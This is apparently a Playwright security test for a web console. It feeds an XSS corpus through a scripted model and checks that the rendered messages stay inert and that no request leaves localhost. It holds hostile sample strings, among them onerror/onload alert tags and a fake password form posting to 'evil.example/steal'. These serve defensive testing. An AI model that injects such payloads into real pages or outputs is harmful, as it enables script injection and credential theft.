import path from 'node:path';

import type { Page } from '@playwright/test';
import { parser, RuleType } from 'markdown-to-jsx';

import { type ScriptStep, startScriptedModel } from '../../relay/cli/testing/scriptedModelStandIn';
import { xssCorpus } from '../../src/features/remote/markdown/xssCorpus';
import { unsafeMarkup } from '../../src/features/remote/markdown/xssInvariants';
import { expect } from './fixtures';
import { type CliRun, RemoteConsole, saveRemoteScreenshot, signUpFrom } from './pages/remoteConsole';
import { pairCli, remoteTest as test } from './pages/remoteHarness';

/**
 * Issue #11 in Chromium: a real `tern --cloud` whose (scripted) model answers with the whole XSS corpus, rendered by
 * the real console. Checked: the DOM invariants of the jsdom test, at every step of the streaming too; no dialog; no
 * request leaves 127.0.0.1 (tracking pixels, stylesheets, frames, refreshes); and the images a user asks for do load.
 */

const READ = { name: 'read_file', arguments: { path: 'greeting.txt' } };
const HOSTILE_TOOL = '<img src=https://evil.example/tool.png onerror=alert(1)>';
const HOSTILE_PATH = '<svg onload=alert(1)>.txt';
const HOSTILE_PROMPT = 'Show me the corpus <img src="https://evil.example/user.png" onerror="alert(1)">';

const SENTINEL = 'xss-corpus-sentinel';

/** True when markdown written after `markdown` would land inside a code block (an unclosed or mismatched fence). */
function leavesCodeOpen(markdown: string): boolean {
  const inCode = (nodes: unknown): boolean =>
    Array.isArray(nodes) &&
    nodes.some(
      (node: { type?: unknown; text?: unknown; children?: unknown; items?: unknown }) =>
        (node.type === RuleType.codeBlock && typeof node.text === 'string' && node.text.includes(SENTINEL)) ||
        inCode(node.children) ||
        (Array.isArray(node.items) && node.items.some(inCode)),
    );
  return inCode(parser(`${markdown}\n\n${SENTINEL}`, { disableParsingRawHTML: true }));
}

/**
 * The corpus in a few messages (a new account may send 10 model requests a minute): one batch per payload that leaves
 * a fence open, which goes last in its batch so that it swallows nothing else.
 */
function corpusMessages(): string[] {
  const open = xssCorpus.filter((p) => leavesCodeOpen(p.markdown));
  const closed = xssCorpus.filter((p) => !open.includes(p));
  const batches = Math.max(open.length, 2);
  return Array.from({ length: batches }, (_, i) =>
    [...closed.filter((_p, j) => j % batches === i), ...(open[i] ? [open[i]] : [])].map((p) => p.markdown).join('\n\n'),
  );
}

function script(baseURL: string): { steps: ScriptStep[]; messages: number } {
  const messages = corpusMessages();
  const benign = [
    '## Corpus done',
    '- first item\n- second item',
    'See [the docs](https://tern.example/docs).',
    '```ts\nconst greeting: string = "<script>alert(1)</script>";\n```',
    // Served by the relay under test: loading it on a click keeps every request on 127.0.0.1.
    `![Tern icon](${baseURL}/icons/icon-192.png)`,
  ].join('\n\n');
  const steps: ScriptStep[] = messages.map((text, i) => ({
    ...(i === 0
      ? { match: { lastUserIncludes: 'Show me the corpus', lastRole: 'user' as const } }
      : { match: { lastRole: 'tool' as const } }),
    text,
    // Text streams in small pieces, so half-written payloads are rendered too.
    chunkDelayMs: 1,
    // Hostile tool names and paths ride along once; every other step reads a file, so the turn goes on.
    toolCalls:
      i === 1
        ? [
            { name: HOSTILE_TOOL, arguments: {} },
            { name: 'read_file', arguments: { path: HOSTILE_PATH } },
          ]
        : [READ],
  }));
  steps.push({ match: { lastRole: 'tool' }, text: benign });
  return { steps, messages: steps.length };
}

/**
 * Installs `unsafeMarkup` in the page (as `window.__unsafeMarkup`: the app's CSP allows no eval, an init script is fine)
 * and runs it on every assistant message as it changes, so a payload that was live for a moment is caught too.
 */
async function watchMessages(page: Page): Promise<void> {
  await page.addInitScript(`
    window.__xssProblems = [];
    window.__unsafeMarkup = ${unsafeMarkup.toString()};
    const check = (el) => { for (const p of window.__unsafeMarkup(el)) window.__xssProblems.push(p); };
    new MutationObserver((records) => {
      const seen = new Set();
      for (const r of records) {
        const target = r.target.nodeType === 1 ? r.target : r.target.parentElement;
        const message = target && target.closest('[data-testid="assistant-message"]');
        if (message && !seen.has(message)) { seen.add(message); check(message); }
        for (const node of r.addedNodes) {
          if (node.nodeType !== 1) continue;
          if (node.matches('iframe, object, embed, frame, base, meta[http-equiv]') || node.querySelector('iframe, object, embed, frame, base, meta[http-equiv]')) {
            window.__xssProblems.push('inserted ' + node.outerHTML.slice(0, 200));
          }
        }
      }
    }).observe(document, { subtree: true, childList: true, attributes: true, characterData: true });
    document.addEventListener('securitypolicyviolation', (e) => window.__xssProblems.push('CSP violation: ' + e.violatedDirective + ' ' + e.blockedURI));
  `);
}

interface TimelineWalk {
  assistantMessages: number;
  assistantText: string[];
  userText: string[];
  toolText: string[];
  problems: string[];
  fixed: number;
  forbidden: string[];
  imagePlaceholders: string[];
}

/**
 * Scrolls the console's timeline from top to bottom a screen at a time and, for every row once (by its key), runs the
 * markup invariants on assistant messages, counts fixed or sticky elements and collects texts; ends at the bottom.
 */
async function walkTimeline(page: Page): Promise<TimelineWalk> {
  return page.evaluate(async () => {
    const list = document.querySelector('[data-testid="timeline"]')!;
    let scroller: HTMLElement | null = list.parentElement;
    while (scroller && !/(auto|scroll)/.test(getComputedStyle(scroller).overflowY)) scroller = scroller.parentElement;
    const box = scroller ?? document.scrollingElement!;
    const frame = () => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
    const unsafe = (window as unknown as { __unsafeMarkup: (root: Element) => string[] }).__unsafeMarkup;
    const seen = new Set<string>();
    const walk: TimelineWalk = {
      assistantMessages: 0,
      assistantText: [],
      userText: [],
      toolText: [],
      problems: [],
      fixed: 0,
      forbidden: [],
      imagePlaceholders: [],
    };
    const visit = () => {
      for (const row of list.querySelectorAll<HTMLElement>(':scope > li[data-key]')) {
        const key = row.dataset.key!;
        if (seen.has(key)) continue;
        seen.add(key);
        for (const el of row.querySelectorAll('[data-testid="assistant-message"]')) {
          walk.assistantMessages += 1;
          walk.assistantText.push(el.textContent ?? '');
          walk.problems.push(...unsafe(el));
          walk.fixed += [el, ...el.querySelectorAll('*')].filter((e) => ['fixed', 'sticky'].includes(getComputedStyle(e).position)).length;
        }
        for (const el of row.querySelectorAll('[data-testid="user-message"]')) walk.userText.push(el.textContent ?? '');
        for (const el of row.querySelectorAll('[data-testid="tool-card"]')) walk.toolText.push(el.textContent ?? '');
        for (const el of row.querySelectorAll('img, svg, iframe, object, embed, form, script, style, meta, base, link, select'))
          walk.forbidden.push(el.outerHTML.slice(0, 200));
        for (const el of row.querySelectorAll('button')) {
          const text = el.textContent?.trim() ?? '';
          if (text.startsWith('Load image from')) walk.imagePlaceholders.push(text);
        }
      }
    };
    box.scrollTop = 0;
    await frame();
    for (let step = 0; step < 2000; step += 1) {
      visit();
      if (box.scrollTop + box.clientHeight >= box.scrollHeight - 1) break;
      box.scrollTop += Math.max(100, Math.floor(box.clientHeight * 0.7));
      await frame();
    }
    visit();
    return walk;
  });
}

const clis: CliRun[] = [];
// Playwright needs the destructuring pattern even when a hook uses no fixture.
// eslint-disable-next-line no-empty-pattern
test.afterEach(async ({}, testInfo) => {
  if (testInfo.status === testInfo.expectedStatus) return;
  for (const cli of clis) await testInfo.attach('tern --cloud output', { body: cli.proc.output, contentType: 'text/plain' });
});
test.afterAll(async () => {
  for (const cli of clis.splice(0)) await cli.cleanup();
});

test('the XSS corpus from a real CLI renders inert, and nothing leaves 127.0.0.1', async ({ page, baseURL }) => {
  test.setTimeout(180_000);
  const { steps, messages } = script(baseURL!);
  const model = await startScriptedModel({ steps });
  const foreign: string[] = [];
  const dialogs: string[] = [];
  page.context().on('request', (request) => {
    const url = new URL(request.url());
    if (url.protocol !== 'data:' && url.protocol !== 'blob:' && url.hostname !== '127.0.0.1') foreign.push(request.url());
  });
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await watchMessages(page);

  try {
    const remote = new RemoteConsole(page);
    await signUpFrom(page, '/remote');
    await remote.expectConnected();
    const cli = await pairCli(remote, baseURL!, model.url, clis);
    const workName = path.basename(cli.workDir);
    const aside = page.locator('aside').first();
    await expect(aside.getByTestId('environment').filter({ hasText: workName })).toHaveAttribute('data-online', 'true', {
      timeout: 20_000,
    });
    await remote.pickEnvironment(workName, false);
    await aside.getByTestId('new-session').click();
    await expect(remote.composer).toBeVisible();

    await remote.send(HOSTILE_PROMPT);
    const answers = page.getByTestId('assistant-message');
    await expect(answers.last()).toContainText('Corpus done', { timeout: 90_000 });
    await expect(answers.last()).toHaveAttribute('data-streaming', 'false');
    // The turn is over (a completed turn shows no marker; the interrupt button goes).
    await expect(page.getByTestId('interrupt')).toHaveCount(0, { timeout: 15_000 });

    // The timeline renders only the rows near the screen: walk it from the top and check every row's final DOM.
    const walk = await walkTimeline(page);
    expect(walk.assistantMessages).toBe(messages);
    expect(walk.problems).toEqual([]);
    // Nothing from a message is laid over the page.
    expect(walk.fixed).toBe(0);
    for (const shown of [
      '<form action="https://evil.example/steal"><input name=password type=password>',
      '<meta http-equiv="refresh"',
      '<base href="https://evil.example/">',
    ]) {
      expect(walk.assistantText.some((text) => text.includes(shown))).toBe(true);
    }
    // The user's own text, tool names and file paths are React text too.
    expect(walk.userText[0]).toContain(HOSTILE_PROMPT);
    expect(walk.toolText.filter((text) => text.includes(HOSTILE_TOOL))).toHaveLength(1);
    expect(walk.toolText.filter((text) => text.includes(HOSTILE_PATH))).toHaveLength(1);
    // No element a payload could have smuggled in, in any row (the last message's image is still a placeholder).
    expect(walk.forbidden).toEqual([]);
    await expect(page.locator('base, meta[http-equiv], iframe, object, embed')).toHaveCount(0);

    // Benign markdown still renders: heading, list, link, highlighted code; and an image loads once asked for.
    const last = answers.last();
    await expect(last.locator('h2')).toHaveText('Corpus done');
    await expect(last.locator('ul > li')).toHaveCount(2);
    await expect(last.getByRole('link', { name: 'the docs' })).toHaveAttribute('rel', 'noopener noreferrer');
    await expect(last.locator('pre')).toHaveAttribute('data-highlighted', 'true', { timeout: 15_000 });
    await expect(last.locator('pre')).toContainText('"<script>alert(1)</script>"');
    // Foreign images wait behind a placeholder (seen in the walk, whichever row they are in).
    expect(walk.imagePlaceholders).toContain('Load image from evil.example');
    await saveRemoteScreenshot(page, 'xss-corpus-text-desktop-en');
    await last.getByRole('button', { name: /^Load image from 127\.0\.0\.1:\d+$/ }).click();
    await expect(last.locator('img')).toHaveJSProperty('complete', true);
    expect(await last.locator('img').evaluate((img: HTMLImageElement) => img.naturalWidth)).toBeGreaterThan(0);
    await last.scrollIntoViewIfNeeded();
    await saveRemoteScreenshot(page, 'xss-corpus-desktop-en');

    expect(await page.evaluate(() => (window as unknown as { __xssProblems: string[] }).__xssProblems)).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(foreign).toEqual([]);
  } finally {
    // A payload that got through may have navigated the page away: say what left 127.0.0.1 whatever failed first.
    if (foreign.length || dialogs.length)
      await test.info().attach('requests off 127.0.0.1 and dialogs', {
        body: [...foreign, ...dialogs.map((d) => `dialog: ${d}`)].join('\n'),
        contentType: 'text/plain',
      });
    await model.close();
  }
});
